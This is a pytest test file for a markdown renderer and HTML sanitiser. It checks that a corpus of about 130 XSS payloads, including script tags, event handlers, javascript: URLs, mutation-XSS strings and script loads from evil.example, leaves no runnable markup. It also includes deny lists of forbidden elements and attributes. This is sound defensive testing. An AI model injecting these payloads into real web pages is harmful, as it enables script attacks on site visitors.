"""Staff-written markdown becomes HTML that is safe to publish, and good markdown survives.

The security checks parse the output with a real HTML parser and look at the elements and
attributes a browser would build, rather than searching for substrings: `&lt;script&gt;` in
the text of a paragraph is harmless, and a substring check would cry wolf over it.
"""

import re
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest

from content.markup import (
    MAX_MARKDOWN_LENGTH,
    MarkdownTooComplex,
    MarkdownTooLong,
    plain_text,
    render_markdown,
    sanitise_html,
)

# --------------------------------------------------------------------------------------
# Reading the output the way a browser would
# --------------------------------------------------------------------------------------

VOID_ELEMENTS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "keygen", "link",
                 "meta", "param", "source", "track", "wbr"}


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    text: str = ""

    def get(self, name: str) -> str | None:
        return next((value for key, value in self.attrs if key == name), None)


class _Collector(HTMLParser):
    """Records every element (tag, attributes as the browser decodes them, text inside)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self._open: list[Element] = []
        self.comments_and_declarations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, attrs)
        self.elements.append(element)
        if tag not in VOID_ELEMENTS:
            self._open.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index].tag == tag:
                del self._open[index:]
                break

    def handle_data(self, data: str) -> None:
        for element in self._open:
            element.text += data

    def handle_comment(self, data: str) -> None:
        self.comments_and_declarations.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.comments_and_declarations.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.comments_and_declarations.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.comments_and_declarations.append(f"<?{data}>")


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def elements_in(html: str) -> list[Element]:
    return parse(html).elements


def only(html: str, tag: str) -> Element:
    found = [element for element in elements_in(html) if element.tag == tag]
    assert len(found) == 1, f"expected exactly one <{tag}> in {html!r}"
    return found[0]


def tags_in(html: str) -> list[str]:
    return [element.tag for element in elements_in(html)]


# Elements that run script, load other documents, submit data, restyle or redirect the
# page, or switch the parser into SVG/MathML (where mutation XSS lives).
FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "select", "keygen", "isindex", "meta", "base", "link", "svg", "math",
    "template", "noscript",
    # A browser reads the content of these as raw text, html.parser reads it as markup.
    # Where this checker and a browser could disagree about what the output means, the
    # construct must not be in the output at all; comments and CDATA are reported too.
    "noembed", "noframes", "xmp", "title", "textarea", "plaintext",
}
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "background", "poster",
                  "data", "cite", "codebase", "dynsrc", "lowsrc", "srcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Browsers ignore ASCII tab and newline anywhere in a URL and control characters or spaces
# around it, so `java\tscript:` is `javascript:`. Remove all of them before reading a scheme.
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def url_is_safe(value: str) -> bool:
    """http:, https:, mailto:, a fragment, a path, or relative without any scheme."""
    cleaned = _IGNORED_IN_URLS.sub("", value).lower()
    scheme = _SCHEME.match(cleaned)
    return scheme is None or scheme.group(1) in SAFE_SCHEMES


def security_problems(html: str) -> list[str]:
    parsed = parse(html)
    problems = [f"{markup!r} left in the output" for markup in parsed.comments_and_declarations]
    for element in parsed.elements:
        if element.tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{element.tag}> element")
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{element.tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                problems.append(f"{name}= attribute on <{element.tag}>")
            if name in URL_ATTRIBUTES:
                urls = [value or ""]
                if name == "srcset":  # "url 1x, url 2x"
                    urls = [part.split()[0] for part in urls[0].split(",") if part.split()]
                problems.extend(f"{name}={url!r} on <{element.tag}>"
                                for url in urls if not url_is_safe(url))
    return problems


# --------------------------------------------------------------------------------------
# The payloads
# --------------------------------------------------------------------------------------

SVG_SCRIPT_BASE64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"  # <svg onload=alert(1)></svg>
HTML_SCRIPT_BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

XSS_PAYLOADS = (
    # Script tags.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script>alert(1)",
    "<script src=https://evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "Some text\n\n<script>alert(1)</script>\n\nMore text",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<h2 onmouseover=alert(1) id=x>heading</h2>",
    "<table><tr><td onclick=alert(1)>cell</td></tr></table>",
    # javascript:, vbscript: and data: URLs in raw HTML.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{HTML_SCRIPT_BASE64}">x</a>',
    '<img src="javascript:alert(1)">',
    f'<img src="data:image/svg+xml;base64,{SVG_SCRIPT_BASE64}">',
    '<img srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<isindex action="javascript:alert(1)" type=image>',
    # javascript:, vbscript: and data: URLs in markdown link and image syntax.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x]( javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{HTML_SCRIPT_BASE64})",
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{SVG_SCRIPT_BASE64})",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: <javascript:alert(1)> "title"',
    "![x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # Breaking out of attribute quotes.
    '[x](https://example.org "title" onmouseover="alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org 'a\\' onmouseover=alert(1) b=\\'')",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<img src=\"x` onerror=alert(1)>",
    # Frames, plugins, forms, redirects, stylesheets and styles.
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<input type=image formaction="javascript:alert(1)" src=x>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml;base64,{SVG_SCRIPT_BASE64}#x"></use></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Comments and CDATA.
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # Markdown inside HTML blocks.
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<details>\n\n![x](javascript:alert(1))\n\n</details>",
    "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    # Encoded entities.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    # Null bytes.
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="java\x00script:alert(1)">x</a>',
    "<img src=x o\x00nerror=alert(1)>",
    "[x](java\x00script:alert(1))",
    # Mutation XSS through elements whose content the parser treats specially.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) "
    'src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
)


# --------------------------------------------------------------------------------------
# The checker itself must see what it is meant to see
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("dangerous_html", [
    "<script>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<img src="data:image/png;base64,AAAA">',
    '<p style="color:red">x</p>',
    "<svg></svg>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[x]]>",
])
def test_the_checker_catches_dangerous_html(dangerous_html: str) -> None:
    assert security_problems(dangerous_html)


@pytest.mark.parametrize("harmless_html", [
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; and javascript:alert(1) as text</p>",
    '<a href="https://example.org/?q=javascript:alert(1)">x</a>',
    '<a href="mailto:someone@example.org">x</a>',
    '<a href="#section-intro">x</a>',
    '<a href="/decisions/">x</a>',
    '<a href="decisions/2025.html">x</a>',
])
def test_the_checker_allows_harmless_html(harmless_html: str) -> None:
    assert security_problems(harmless_html) == []


def test_the_payload_corpus_is_large_and_has_no_repeats() -> None:
    assert len(XSS_PAYLOADS) >= 60
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


# --------------------------------------------------------------------------------------
# No payload gets through
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_markdown_contains_nothing_that_can_run_script(payload: str) -> None:
    output = render_markdown(payload)
    assert security_problems(output) == [], f"{payload!r} rendered as {output!r}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitised_html_contains_nothing_that_can_run_script(payload: str) -> None:
    output = sanitise_html(payload)
    assert security_problems(output) == [], f"{payload!r} sanitised to {output!r}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendering_is_stable_so_sanitising_again_changes_nothing(payload: str) -> None:
    # If cleaning the output again changed it, the browser would read the stored HTML
    # differently from the sanitiser: the root of mutation XSS.
    output = render_markdown(payload)
    assert sanitise_html(output) == output


def test_escaped_markup_stays_visible_as_text() -> None:
    output = render_markdown("Write &lt;script&gt; to start a script.")
    assert only(output, "p").text == "Write <script> to start a script."
    assert "script" not in tags_in(output)


def test_the_content_of_a_script_is_dropped_not_left_on_the_page() -> None:
    output = render_markdown("Before\n\n<script>steal()</script>\n\nAfter")
    assert "steal" not in output
    assert [element.text for element in elements_in(output)] == ["Before", "After"]


# --------------------------------------------------------------------------------------
# Good markdown survives
# --------------------------------------------------------------------------------------


def test_a_top_level_heading_becomes_an_h2_with_a_prefixed_id() -> None:
    output = render_markdown("# Budget 2025/26")
    assert "h1" not in tags_in(output)
    heading = only(output, "h2")
    assert heading.text == "Budget 2025/26"
    assert heading.get("id") == "section-budget-2025-26"


def test_lower_headings_keep_their_level_and_also_get_prefixed_ids() -> None:
    output = render_markdown("## Spending\n\n### By month")
    assert only(output, "h2").get("id") == "section-spending"
    assert only(output, "h3").get("id") == "section-by-month"


def test_every_heading_id_starts_with_section() -> None:
    output = render_markdown("# main\n\n## content\n\n### !!!\n\n#### header")
    ids = [element.get("id") for element in elements_in(output)
           if element.tag in {"h2", "h3", "h4"}]
    assert len(ids) == 4
    assert all(id_ and id_.startswith("section-") for id_ in ids), ids


def test_paragraphs_are_kept_apart() -> None:
    output = render_markdown("First paragraph.\n\nSecond paragraph.")
    paragraphs = [element.text for element in elements_in(output) if element.tag == "p"]
    assert paragraphs == ["First paragraph.", "Second paragraph."]


def test_emphasis_and_strong_emphasis() -> None:
    output = render_markdown("Some *emphasis* and **strong** words.")
    assert only(output, "em").text == "emphasis"
    assert only(output, "strong").text == "strong"


def test_bulleted_and_numbered_lists() -> None:
    output = render_markdown("- apples\n- pears\n\n1. first\n2. second")
    elements = elements_in(output)
    assert [element.tag for element in elements] == ["ul", "li", "li", "ol", "li", "li"]
    assert [element.text for element in elements if element.tag == "li"] == [
        "apples", "pears", "first", "second"]


def test_a_numbered_list_keeps_its_starting_number() -> None:
    assert only(render_markdown("3. third\n4. fourth"), "ol").get("start") == "3"


def test_tables_keep_their_structure() -> None:
    output = render_markdown("| Item | Cost |\n|------|-----:|\n| Fuel | £12 |")
    tags = tags_in(output)
    for tag in ("table", "thead", "tbody", "tr", "th", "td"):
        assert tag in tags, f"no <{tag}> in {output!r}"
    elements = elements_in(output)
    assert [element.text for element in elements if element.tag == "th"] == ["Item", "Cost"]
    assert [element.text for element in elements if element.tag == "td"] == ["Fuel", "£12"]


def test_inline_code_and_code_blocks_show_markup_as_text() -> None:
    output = render_markdown("Use `<b>` for bold.\n\n    <script>alert(1)</script>")
    code = [element for element in elements_in(output) if element.tag == "code"]
    assert [element.text for element in code] == ["<b>", "<script>alert(1)</script>\n"]
    assert "pre" in tags_in(output)
    assert "script" not in tags_in(output)


def test_blockquotes() -> None:
    output = render_markdown("> Quoted words.")
    assert only(output, "blockquote").text.strip() == "Quoted words."


@pytest.mark.parametrize(("source", "href"), [
    ("[the report](https://example.org/report.pdf)", "https://example.org/report.pdf"),
    ("[search](https://example.org/?q=a&b=c)", "https://example.org/?q=a&b=c"),
    ("[plain](http://example.org/)", "http://example.org/"),
    ("[write to us](mailto:info@example.org)", "mailto:info@example.org"),
    ("<https://example.org/auto>", "https://example.org/auto"),
    ("<info@example.org>", "mailto:info@example.org"),
    ("[decisions](/decisions/)", "/decisions/"),
    ("[below](#section-costs)", "#section-costs"),
    ("[see][ref]\n\n[ref]: https://example.org/ref", "https://example.org/ref"),
])
def test_safe_links_are_kept_with_noopener_noreferrer(source: str, href: str) -> None:
    link = only(render_markdown(source), "a")
    assert link.get("href") == href
    assert link.get("rel") == "noopener noreferrer"


def test_a_link_keeps_its_text_and_title() -> None:
    link = only(render_markdown('[annual report](https://example.org/ "Report 2025")'), "a")
    assert link.text == "annual report"
    assert link.get("title") == "Report 2025"


# --------------------------------------------------------------------------------------
# Limits and edge cases
# --------------------------------------------------------------------------------------


def test_source_exactly_at_the_length_cap_is_rendered() -> None:
    output = render_markdown("a" * MAX_MARKDOWN_LENGTH)
    assert only(output, "p").text == "a" * MAX_MARKDOWN_LENGTH


def test_source_one_character_over_the_cap_is_refused() -> None:
    with pytest.raises(MarkdownTooLong, match="characters long"):
        render_markdown("a" * (MAX_MARKDOWN_LENGTH + 1))


def test_the_length_cap_also_applies_to_plain_text() -> None:
    with pytest.raises(MarkdownTooLong):
        plain_text("a" * (MAX_MARKDOWN_LENGTH + 1))


def test_too_long_is_a_value_error_so_form_validation_can_catch_it() -> None:
    assert issubclass(MarkdownTooLong, ValueError)


@pytest.mark.parametrize("source", ["", None])
def test_empty_or_missing_source_renders_as_nothing(source: str | None) -> None:
    assert render_markdown(source) == ""
    assert plain_text(source) == ""


def test_too_many_square_brackets_are_refused_before_rendering() -> None:
    with pytest.raises(MarkdownTooComplex, match="1,001 opening square brackets"):
        render_markdown("[" * 1_001)


def test_unclosed_brackets_before_parentheses_are_refused_saying_what_to_change() -> None:
    # Rendered, this took about 90 seconds: past the worker's timeout for a preview.
    with pytest.raises(MarkdownTooComplex) as refused:
        render_markdown("[" * 999 + "(" * 98_000)
    assert "never closed. Close each [ with ] and each ( with )" in str(refused.value)


@pytest.mark.parametrize(("source", "refusal"), [
    ("[a](" * 999 + "(" * 96_000, "brackets ( that are never closed"),
    ("[" * 1_000 + "a" * 99_000, "square brackets [ or round brackets ("),
    ("*a" * 50_000, "50,000 asterisks (*) and underscores (_); the most we accept is 20,000"),
    ("`a" * 50_000, "50,000 backticks (`); the most we accept is 20,000"),
    ("<div>" * 20_000, "20,000 HTML tags or links in angle brackets (<)"),
    ("<http://a" * 500 + "a" * 95_000, "angle brackets < that are never closed with >"),
    ("\\" * 100_000, "100,000 backslashes"),
    ("# a\n" * 25_000, "25,000 headings (lines starting with #); the most we accept is 1,000"),
    ("|x|x|\n" * 16_000, "vertical bars (|), which make table cells"),
    ("- a\n" * 25_000, "25,000 list items; the most we accept is 5,000"),
    ("1. " * 33_333, "quotes or lists inside each other more than 10 deep"),
    ("> " * 11 + "a", "quotes or lists inside each other more than 10 deep"),
])
def test_input_too_complex_to_render_in_time_is_refused_saying_what_to_change(
        source: str, refusal: str) -> None:
    with pytest.raises(MarkdownTooComplex) as refused:
        render_markdown(source)
    assert refusal in str(refused.value)


@pytest.mark.parametrize("source", [
    "[" * 4 + "a" * 99_000,
    "*a" * 10_000,
    "<a" * 49,
    "# a\n" * 1_000,
    "- a\n" * 5_000,
    "> " * 10 + "a",
    "- > " * 5 + "a",
])
def test_input_just_within_the_complexity_limits_renders(source: str) -> None:
    assert render_markdown(source)


def test_table_column_alignment_survives_sanitising() -> None:
    html = render_markdown("| Item | Cost |\n|:--|--:|\n| Fleet | £5 |")
    assert '<td align="right">£5</td>' in html


def test_images_are_not_published_but_their_description_is() -> None:
    html = render_markdown("![Chart of spending by quarter](https://example.org/chart.png)")
    assert "<img" not in html
    assert "Chart of spending by quarter" in html


@pytest.mark.parametrize("source", [
    "[" * 1_000 + "]" * 1_000,
    "![" * 500,
    ">" * 10,
    "<" * 5_000,
    "`" * 5_000,
    "*a" * 2_500,
    "".join("  " * depth + "- item\n" for depth in range(200)),
])
def test_pathological_input_under_the_cap_still_renders(source: str) -> None:
    output = render_markdown(source)
    assert isinstance(output, str)
    assert security_problems(output) == []


# --------------------------------------------------------------------------------------
# Plain text
# --------------------------------------------------------------------------------------


def test_plain_text_strips_tags_and_markdown() -> None:
    source = "# Title\n\nSome **bold** and <b>raw</b> text.\n\n- one\n- two"
    assert plain_text(source) == "Title Some bold and raw text. one two"


def test_plain_text_unescapes_entities() -> None:
    assert plain_text("Fish &amp; chips &copy; 5 < 6") == "Fish & chips © 5 < 6"


def test_plain_text_collapses_whitespace() -> None:
    assert plain_text("  lots   of\tspace\n\n\n\nand\nlines  ") == "lots of space and lines"


def test_plain_text_drops_scripts_with_their_content() -> None:
    assert plain_text("Hello <script>alert(1)</script> world") == "Hello world"
